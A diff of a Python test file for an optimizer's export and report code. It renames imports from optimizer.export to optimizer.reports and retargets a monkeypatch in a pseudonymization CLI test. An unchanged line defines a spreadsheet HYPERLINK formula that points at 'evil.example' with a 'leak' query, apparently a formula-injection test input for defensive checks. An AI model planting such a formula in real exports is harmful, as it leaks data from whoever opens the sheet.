@@ -12,8 +12,8 @@ from conftest import write_scenario
 from openpyxl import load_workbook
 
 from models import Plan, Scenario, Shortfall, build_plan, evaluate, load_scenario, owed_obligations
-from optimizer.export import Pseudonyms, fonts, pseudonymize, write_exports, write_workbook
-from optimizer.export.privacy import AMBIGUOUS, KEY_VARIABLE, name_scrubber
+from optimizer.reports import Pseudonyms, fonts, pseudonymize, write_exports, write_workbook
+from optimizer.reports.privacy import AMBIGUOUS, KEY_VARIABLE, name_scrubber
 
 YEAR = 2020
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","点此查看")'
@@ -246,15 +246,15 @@ def test_the_font_warning_names_the_id_not_the_name(scenario_and_plan):
 def test_plan_annual_pseudonymize_leaves_no_name_in_the_plan_folder(tmp_path, monkeypatch):
     from click.testing import CliRunner
 
-    import optimizer.export
-    from optimizer import cli
+    import optimizer.reports
+    from optimizer.cli import annual as cli
 
-    real = optimizer.export.write_exports
+    real = optimizer.reports.write_exports
 
     def svg_only(*args, **kwargs):  # the same exports, drawn in one format to keep the test fast
         return real(*args, **{**kwargs, "formats": ("svg",)})
 
-    monkeypatch.setattr(optimizer.export, "write_exports", svg_only)
+    monkeypatch.setattr(cli, "write_exports", svg_only)
     scenario = write_scenario(tmp_path / "scenario", _tables())
     args = [
         "--year",
